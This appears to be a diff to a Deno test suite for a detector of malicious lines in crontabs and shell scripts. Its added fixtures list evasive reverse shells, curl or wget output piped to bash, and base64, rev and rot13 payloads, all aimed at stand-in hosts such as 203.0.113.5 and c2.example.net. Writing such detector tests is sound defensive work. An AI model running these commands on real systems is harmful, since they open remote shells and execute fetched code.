@@ -61,11 +61,21 @@ Deno.test("anacrontab: period delay id command", () => {
   assert.equal(t.bad, 1);
 });
 
-Deno.test("scriptLines joins continuations and drops comments and blanks", () => {
+Deno.test("scriptLines joins continuations as the shell does and drops comments and blanks", () => {
   assert.deepEqual(scriptLines("#!/bin/sh\n\nfoo \\\n  bar\n  # c\nbaz\ntrailing \\"), [
-    { line: 3, text: "foo    bar" },
+    { line: 3, text: "foo   bar" },
     { line: 6, text: "baz" },
     { line: 7, text: "trailing" },
+  ]);
+  // The backslash and the newline are removed, nothing put in their place: a word split over lines is one word.
+  assert.deepEqual(scriptLines("bash -i >& /dev/tcp/203.0.113.5/\\\n4444 0>&1\n"), [
+    { line: 1, text: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1" },
+  ]);
+  // An even run of backslashes is escaped backslashes, not a continuation; an odd one continues.
+  assert.deepEqual(scriptLines("a \\\\\nb \\\\\\\nc\n\\\nd"), [
+    { line: 1, text: "a \\\\" },
+    { line: 2, text: "b \\\\c" },
+    { line: 4, text: "d" },
   ]);
 });
 
@@ -103,6 +113,15 @@ const STOCK_LINES = [
   'ENV{DM_COOKIE}=="?*", RUN+="/sbin/dmsetup udevcomplete $env{DM_COOKIE}"',
   "/bin/sh -c 'echo 1 > /sys/class/x/power'",
   "debian ALL=(ALL) NOPASSWD:ALL",
+  // Near misses of the evasion patterns below: a fetch saved and checked (not run), text translated or reversed
+  // into a pager, a socket used without a process, the shell's name printed.
+  "curl -fsSo /var/lib/app/feed.xml https://example.org/feed && sha256sum /var/lib/app/feed.xml",
+  "wget -qO /var/cache/x.tar.gz https://example.org/x.tar.gz; tar -C /opt -xzf /var/cache/x.tar.gz",
+  "hostname | tr a-z A-Z | logger",
+  "cat /var/log/app.log | rev | less",
+  "python3 -c 'import socket; print(socket.gethostname())'",
+  'echo "$SHELL" > /run/user-shell',
+  "/usr/bin/env bash /usr/local/sbin/rotate-logs",
 ];
 
 Deno.test("patterns: stock lines match nothing", () => {
@@ -161,12 +180,67 @@ const MALICIOUS: [string, string][] = [
   ['eval "$(echo ZWNobyBoaQ== | base64 --decode)"', "encoded_payload"],
   ["python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", "encoded_payload"],
   [`echo ${"QUJD".repeat(40)} | sh`, "encoded_payload"],
+  // Evasions of the patterns above: wrappers, quotes and variables before the interpreter, decoders spelled
+  // otherwise, ports by name or variable, long options, a fetch saved then run.
+  ["curl -fsSL http://203.0.113.5/x | env bash", "download_exec"],
+  ["curl -fsSL http://203.0.113.5/x | /usr/bin/env -i bash", "download_exec"],
+  ["curl -fsSL http://203.0.113.5/x | $SHELL", "download_exec"],
+  ['curl -fsSL http://203.0.113.5/x | "bash"', "download_exec"],
+  ["wget -qO- http://203.0.113.5/x | busybox sh", "download_exec"],
+  ["curl -so /usr/local/bin/upd http://203.0.113.5/x && /usr/local/bin/upd", "download_exec"],
+  ["wget --output-document=/var/lib/u http://203.0.113.5/x; sh /var/lib/u", "download_exec"],
+  ["echo YmFzaCAtaQo= | base64 -di | bash", "encoded_payload"],
+  ["echo YmFzaCAtaQo= | base64 --d | bash", "encoded_payload"],
+  ["echo '1&>0 4444/5.311.0.302/pct/ved/ >& i- hsab' | rev | bash", "encoded_payload"],
+  ["echo 'onfu -v' | tr a-z n-za-m | bash", "encoded_payload"],
+  ['P=4444; bash -c "bash -i >& /dev/tcp/203.0.113.5/$P 0>&1"', "reverse_shell"],
+  ["bash -i >& /dev/tcp/c2.example.net/https 0>&1", "reverse_shell"],
+  [
+    'python3 -c \'import socket,subprocess;s=socket.create_connection(("203.0.113.5",4444));' +
+    'subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s)\'',
+    "reverse_shell",
+  ],
+  ["ncat --ssl 203.0.113.5 4444 --sh-exec /bin/sh", "reverse_shell"],
 ];
 
 Deno.test("patterns: each malicious line matches its kind", () => {
   for (const [line, kind] of MALICIOUS) {
     const hits = matchPatterns(line);
     assert.ok(hits.some((h) => h.kind === kind), `${line} → ${JSON.stringify(hits)}`);
+  }
+});
+
+Deno.test("patterns: a 256 KiB line of any pattern's words is matched in linear time (the line is the attacker's)", () => {
+  // Each of these made a backtracking pattern take seconds per 10 KB (a minute for a 40 KB crontab line).
+  const words = [
+    "openssl base64 ",
+    "openssl -d ",
+    "curl ",
+    "wget -O x ",
+    "curl -o a ",
+    "; a ",
+    "nc ",
+    "ncat -x ",
+    "mkfifo ",
+    "sh -i ",
+    "socat ",
+    "socket ",
+    "use Socket ",
+    "fsockopen(",
+    "python ",
+    "base64 -a ",
+    "| env ",
+    "| tr -x ",
+    "/dev/tcp/a/",
+    "\\x41",
+    "A",
+  ];
+  for (const w of words) {
+    const line = w.repeat(Math.ceil((256 << 10) / w.length));
+    const t0 = performance.now();
+    matchPatterns(line);
+    const ms = performance.now() - t0;
+    assert.ok(ms < 2000, `${JSON.stringify(w)} × ${line.length / w.length}: ${ms.toFixed(0)} ms`);
   }
 });
 
